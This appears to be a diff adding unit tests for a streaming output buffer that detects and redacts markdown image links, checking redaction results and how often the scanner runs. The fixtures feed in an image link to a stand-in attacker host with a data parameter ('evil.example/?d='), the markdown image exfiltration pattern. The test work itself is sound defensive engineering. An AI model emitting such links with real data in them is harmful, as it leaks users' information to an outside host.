@@ -164,6 +164,45 @@ describe("ChannelBuffer", () => {
     });
   });
 
+  describe("a long hold is not rescanned per piece", () => {
+    /** Holds from an unfinished `![x](` to the end; redacts a finished `![x](…)` whole. */
+    function sinkScanner(): ChannelScanner & { scans: number } {
+      const sc = {
+        maxMatchLength: 8,
+        scans: 0,
+        scan(text: string, _c: string, final: boolean): ScanResult {
+          sc.scans++;
+          const edits: TextEdit[] = [];
+          for (const m of text.matchAll(/!\[x\]\([^)\s]*\)/g)) edits.push({ start: m.index, end: m.index + m[0].length, replacement: "[IMG]" });
+          const open = text.lastIndexOf("![x](");
+          const pending = !final && open >= 0 && text.indexOf(")", open) < 0;
+          return pending ? { edits, holdFrom: open } : { edits };
+        },
+      };
+      return sc;
+    }
+
+    it("a URL growing 8 characters at a time is scanned O(log n) times, and judged whole when it ends", () => {
+      const sc = sinkScanner();
+      const b = new ChannelBuffer("c", "text", { scanner: sc, window: 8, contextLength: 8 });
+      let out = b.push("before ![x](https://evil.example/?d=");
+      for (let i = 0; i < 4000; i++) out += b.push("AAAAAAAA");
+      out += b.push(") after") + b.end();
+      expect(out).toBe("before [IMG] after");
+      expect(sc.scans).toBeLessThan(40);
+    });
+
+    it("a hold that passes maxHold is scanned again at once (so the scanner can stop it)", () => {
+      const sc = sinkScanner();
+      const b = new ChannelBuffer("c", "text", { scanner: sc, window: 8, contextLength: 8, maxHold: 1000 });
+      b.push("![x](https://evil.example/?d=");
+      for (let i = 0; i < 120; i++) b.push("AAAAAAAA");
+      const before = sc.scans;
+      for (let i = 0; i < 10; i++) b.push("AAAAAAAA");
+      expect(sc.scans).toBeGreaterThan(before);
+    });
+  });
+
   describe("early release (scanner pendingFrom)", () => {
     /** Redacts SECRET; a finding can only be in progress in the trailing run of capitals. */
     const early = (): ChannelScanner & { seen: string[] } => ({
